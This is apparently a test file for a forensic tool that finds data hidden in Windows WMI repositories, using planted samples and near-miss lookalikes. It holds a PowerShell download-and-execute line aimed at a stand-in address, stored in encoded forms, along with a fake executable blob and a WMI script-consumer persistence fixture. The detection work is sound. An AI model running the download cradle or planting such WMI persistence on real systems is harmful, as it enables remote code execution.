import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import {
  bufferFile,
  formerValues,
  openRepository,
  type Repository,
  type StoredValue,
  storedValues,
} from '../../src/cim/index.ts';
import { hiddenData } from '../../src/wmi/index.ts';
import {
  arrayProperty,
  keyProperty,
  ordinaryRepository,
  plantSubscription,
  property,
  type RepositoryFiles,
  type RepositoryWriter,
  securityDescriptor,
} from '../../testkit/cim/index.ts';
import { filesOf, skip } from './corpus.ts';

const SCRIPT =
  '$c = New-Object Net.WebClient; $t = $c.DownloadString("http://203.0.113.7/a"); Invoke-Expression $t\r\n';
const PROGRAM = Buffer.concat([
  Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'),
  Buffer.from(Array.from({ length: 700 }, (_, i) => (i * 131 + (i >> 3) * 29) & 0xff)),
]);
const CODES = [...Buffer.from(SCRIPT, 'latin1')];

function line({ namespace, className, property: name, part, content }: StoredValue): string | undefined {
  const found = hiddenData(content);
  return found && [namespace?.path, className, name, part, found.reason, ...(found.kind ? [found.kind] : [])].join(' ');
}

function hits(values: Iterable<StoredValue>): string[] {
  return [...values].flatMap((value) => line(value) ?? []).sort();
}

function open(files: RepositoryFiles): Repository {
  return openRepository([...files].map(([name, bytes]) => bufferFile(name, bytes)));
}

const HIDDEN = [
  'root\\DEFAULT Chunks Parts value base64 program',
  'root\\DEFAULT Numbers Codes value char-codes text',
  'root\\DEFAULT RacTask HiveUploadTask default base64 gzip',
  'root\\DEFAULT RacTask Name/Description qualifier base64 program',
  'root\\cimv2 Win32_OSRecoveryConfiguration DebugFilePath value char-codes text',
  'root\\cimv2 Win32_OSRecoveryConfiguration Image value bytes program',
  'root\\cimv2 Win32_OSRecoveryConfiguration Script value long-text',
  'root\\cimv2 Win32_OSRecoveryConfiguration Sealed value bytes',
];

/** What hides data in each way that S14 knows. */
function hide(repository: RepositoryWriter): void {
  repository.defineClass('root\\cimv2', {
    name: 'Win32_OSRecoveryConfiguration',
    properties: [
      keyProperty('Name'),
      property('DebugFilePath', 'string'),
      property('Script', 'string'),
      arrayProperty('Image', 'uint8'),
      arrayProperty('Sealed', 'uint8'),
    ],
  });
  repository.put('root\\cimv2', 'Win32_OSRecoveryConfiguration', {
    Name: 'Windows',
    DebugFilePath: CODES.join(','),
    Script: SCRIPT.repeat(12),
    Image: Uint8Array.from(PROGRAM),
    // Behind a descriptor that is one.
    Sealed: Uint8Array.from([...securityDescriptor(), ...PROGRAM, ...PROGRAM]),
  });
  const description = { name: 'Description', type: 'string' as const, value: PROGRAM.toString('base64') };
  repository.defineClass('root\\DEFAULT', {
    name: 'RacTask',
    properties: [
      keyProperty('Name', 'string', { qualifiers: [description] }),
      property('HiveUploadTask', 'string', { byDefault: gzipSync(SCRIPT.repeat(9)).toString('base64') }),
    ],
  });
  repository.defineClass('root\\DEFAULT', {
    name: 'Chunks',
    properties: [keyProperty('Name'), arrayProperty('Parts', 'string')],
  });
  repository.put('root\\DEFAULT', 'Chunks', { Name: 'a', Parts: PROGRAM.toString('base64').match(/.{1,40}/g) ?? [] });
  repository.defineClass('root\\DEFAULT', {
    name: 'Numbers',
    properties: [keyProperty('Name'), arrayProperty('Codes', 'sint32')],
  });
  repository.put('root\\DEFAULT', 'Numbers', { Name: 'a', Codes: CODES });
}

/** What looks nearly the same and is none. */
function hideNothing(repository: RepositoryWriter): void {
  repository.defineClass('root\\DEFAULT', {
    name: 'Plain',
    qualifiers: [{ name: 'Description', type: 'string', value: 'Prose about a class, in words. '.repeat(60) }],
    properties: [
      keyProperty('Name'),
      property('Text', 'string', { byDefault: 'Prose of a default. '.repeat(51) }),
      arrayProperty('Descriptor', 'uint8'),
      arrayProperty('Few', 'sint32'),
      arrayProperty('Names', 'string'),
    ],
  });
  repository.put('root\\DEFAULT', 'Plain', {
    Name: 'a'.repeat(300),
    Text: SCRIPT.repeat(10).slice(0, 1024),
    Descriptor: securityDescriptor(),
    Few: CODES.slice(0, 31),
    Names: Array.from({ length: 100 }, (_, i) => `Win32_SomethingWithAName${i}`),
  });
  plantSubscription(repository, {
    name: 'Updater',
    query: `SELECT * FROM A WHERE B = '${PROGRAM.toString('base64')}'`,
    consumer: {
      className: 'ActiveScriptEventConsumer',
      values: { ScriptingEngine: 'VBScript', ScriptText: PROGRAM.toString('base64') },
    },
  });
}

test('S14 each way to hide data is found where it stands, and what is near to it is not', () => {
  const repository = ordinaryRepository();
  hideNothing(repository);
  repository.checkpoint();
  assert.deepEqual(hits(storedValues(open(repository.files()).current)), []);
  hide(repository);
  repository.checkpoint();
  const opened = open(repository.files());
  assert.deepEqual(hits(storedValues(opened.current)), HIDDEN);
  assert.deepEqual(opened.anomalies(), []);
  const found = [...storedValues(opened.current)].filter((value) => line(value) !== undefined);
  for (const { object, className, part } of found) {
    const whole = object();
    assert.equal(whole !== undefined && 'definition' in whole ? whole.name : whole?.className, className);
    assert.equal(whole !== undefined && 'definition' in whole, part !== 'value');
    assert.equal(whole?.place.label, 'live');
  }
});

test('S14 what hides is found without map or index too, as far as its class is', () => {
  const repository = ordinaryRepository();
  hide(repository);
  repository.checkpoint();
  const files = repository.files();
  const withoutMap = new Map([...files].filter(([name]) => !name.startsWith('MAPPING')));
  assert.deepEqual(hits(storedValues(open(withoutMap).current)), HIDDEN);
  const alone = new Map([...files].filter(([name]) => name === 'OBJECTS.DATA'));
  const unnamed = HIDDEN.map((text) => text.slice(text.indexOf(' '))).sort();
  assert.deepEqual(hits(storedValues(open(alone).current)), unnamed);
});

test('S14 what an older generation hid is found in what changed', () => {
  const repository = ordinaryRepository();
  hide(repository);
  repository.checkpoint();
  const [gone] = repository.generations.at(-1)?.instances.filter(({ className }) => className === 'Chunks') ?? [];
  assert.ok(gone !== undefined);
  repository.remove(gone);
  repository.put('root\\cimv2', 'Win32_OSRecoveryConfiguration', { Name: 'Windows', DebugFilePath: 'MEMORY.DMP' });
  repository.checkpoint();
  const opened = open(repository.files());
  assert.deepEqual(
    hits(formerValues(opened.history())),
    HIDDEN.filter((text) => /Chunks|OSRecovery/.test(text)),
  );
  assert.deepEqual(
    hits(storedValues(opened.current)),
    HIDDEN.filter((text) => !/Chunks|OSRecovery/.test(text)),
  );
});

test('S14 real repositories hide nothing, and are looked through soon', { skip }, () => {
  for (const label of ['museum-server2022', 'museum-win10-defender', 'dissect-cim']) {
    const repository = openRepository(filesOf(label));
    const start = performance.now();
    let count = 0;
    for (const value of storedValues(repository.current)) {
      count++;
      assert.equal(line(value), undefined, label);
    }
    const took = performance.now() - start;
    assert.ok(count > 3000, `${count} values`);
    assert.deepEqual(repository.anomalies(), []);
    // 100 to 200 ms; other work on the machine is not its fault.
    assert.ok(took < 2000, `${took} ms`);
  }
});
